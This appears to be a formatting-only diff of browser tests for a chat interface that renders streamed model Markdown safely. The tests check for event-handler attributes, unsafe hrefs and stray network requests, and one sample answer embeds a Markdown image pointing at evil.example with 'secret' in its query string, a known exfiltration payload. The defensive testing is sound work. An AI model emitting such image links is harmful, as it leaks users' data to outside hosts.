@@ -22,7 +22,8 @@ async function differences(documents) {
     for (const part of streamed.querySelectorAll('.part')) part.replaceWith(...part.childNodes);
     const whole = document.createElement('div');
     drawWhole(whole, text);
-    if (streamed.innerHTML !== whole.innerHTML) wrong.push({ text, size, streamed: streamed.innerHTML, whole: whole.innerHTML });
+    if (streamed.innerHTML !== whole.innerHTML)
+      wrong.push({ text, size, streamed: streamed.innerHTML, whole: whole.innerHTML });
   }
   return wrong.slice(0, 3);
 }
@@ -55,7 +56,11 @@ async function dangers(attacks) {
     }
     for (const node of root.querySelectorAll('*')) {
       for (const { name } of node.attributes) if (name.startsWith('on')) found.push(`${text}: ${node.outerHTML}`);
-      if (node.href !== undefined && !/^(https?:|mailto:)/.test(node.getAttribute('href') ?? 'https:') && !node.closest('svg')) {
+      if (
+        node.href !== undefined &&
+        !/^(https?:|mailto:)/.test(node.getAttribute('href') ?? 'https:') &&
+        !node.closest('svg')
+      ) {
         found.push(`${text}: ${node.outerHTML}`);
       }
     }
@@ -71,7 +76,8 @@ async function dangers(attacks) {
       }
       renderer.finish();
       look(root, around);
-      for (const link of root.querySelectorAll('a')) if (link.rel !== 'noopener noreferrer nofollow') found.push(link.outerHTML);
+      for (const link of root.querySelectorAll('a'))
+        if (link.rel !== 'noopener noreferrer nofollow') found.push(link.outerHTML);
       root.remove();
     }
   }
@@ -95,12 +101,15 @@ browserTest('attacks in a real answer cause no request and no dialog', async ({ 
   await answerState(page, 'done');
   await page.waitForTimeout(300);
   const known = /^\/(api|js|vendor|css|i18n)\//;
-  assert.deepEqual(fake.requests.filter(({ path }) => !before.has(path) && !known.test(path)), []);
+  assert.deepEqual(
+    fake.requests.filter(({ path }) => !before.has(path) && !known.test(path)),
+    [],
+  );
   assert.equal(dialogs, 0);
   assert.equal(await page.evaluate(() => window.hacked), undefined);
 });
 
-browserTest('a model\'s image is a link with its words, and is never loaded', async ({ page, fake }) => {
+browserTest("a model's image is a link with its words, and is never loaded", async ({ page, fake }) => {
   fake.onChat = async (stream) => {
     await stream.say('Look: ![a cat](https://evil.example/cat.png?words=secret) fine');
     await stream.done();
@@ -108,44 +117,50 @@ browserTest('a model\'s image is a link with its words, and is never loaded', as
   await send(page, 'q');
   await answerState(page, 'done');
   const link = page.locator('.assistant .text a');
-  assert.deepEqual([await link.innerText(), await link.getAttribute('href')], ['a cat', 'https://evil.example/cat.png?words=secret']);
+  assert.deepEqual(
+    [await link.innerText(), await link.getAttribute('href')],
+    ['a cat', 'https://evil.example/cat.png?words=secret'],
+  );
   assert.equal(await page.locator('.assistant .text img').count(), 0);
 });
 
-browserTest('settled text keeps its nodes and its selection while the answer grows, and no word goes away', async ({ page, fake }) => {
-  const go = signal();
-  fake.onChat = async (stream) => {
-    await stream.say('Settled words here.\n\nNext ');
-    await go;
-    for (const piece of longAnswer(1_500).match(/.{1,12}/gs)) await stream.say(piece);
-    await stream.done();
-  };
-  await send(page, 'q');
-  await until(async () => /Next/.test(await answerText(page)));
-  await page.evaluate(() => {
-    const first = document.querySelector('.assistant .text p');
-    window.kept = first;
-    getSelection().selectAllChildren(first);
-    window.lost = [];
-    let most = 0;
-    const watch = () => {
-      // Signs of Markdown come and go as they are understood; words only come.
-      const letters = document.querySelector('.assistant .text').textContent.replace(/[^a-z]/gi, '').length;
-      if (letters < most - 12) window.lost.push([most, letters]);
-      most = Math.max(most, letters);
-      window.watching = requestAnimationFrame(watch);
+browserTest(
+  'settled text keeps its nodes and its selection while the answer grows, and no word goes away',
+  async ({ page, fake }) => {
+    const go = signal();
+    fake.onChat = async (stream) => {
+      await stream.say('Settled words here.\n\nNext ');
+      await go;
+      for (const piece of longAnswer(1_500).match(/.{1,12}/gs)) await stream.say(piece);
+      await stream.done();
     };
-    watch();
-  });
-  go.fire();
-  await answerState(page, 'done');
-  const after = await page.evaluate(() => ({
-    same: document.querySelector('.assistant .text p') === window.kept,
-    selection: getSelection().toString().trim(),
-    lost: window.lost,
-  }));
-  assert.deepEqual(after, { same: true, selection: 'Settled words here.', lost: [] });
-});
+    await send(page, 'q');
+    await until(async () => /Next/.test(await answerText(page)));
+    await page.evaluate(() => {
+      const first = document.querySelector('.assistant .text p');
+      window.kept = first;
+      getSelection().selectAllChildren(first);
+      window.lost = [];
+      let most = 0;
+      const watch = () => {
+        // Signs of Markdown come and go as they are understood; words only come.
+        const letters = document.querySelector('.assistant .text').textContent.replace(/[^a-z]/gi, '').length;
+        if (letters < most - 12) window.lost.push([most, letters]);
+        most = Math.max(most, letters);
+        window.watching = requestAnimationFrame(watch);
+      };
+      watch();
+    });
+    go.fire();
+    await answerState(page, 'done');
+    const after = await page.evaluate(() => ({
+      same: document.querySelector('.assistant .text p') === window.kept,
+      selection: getSelection().toString().trim(),
+      lost: window.lost,
+    }));
+    assert.deepEqual(after, { same: true, selection: 'Settled words here.', lost: [] });
+  },
+);
 
 browserTest('code is coloured when its fence closes, and is copied exactly', async ({ page, fake, context }) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
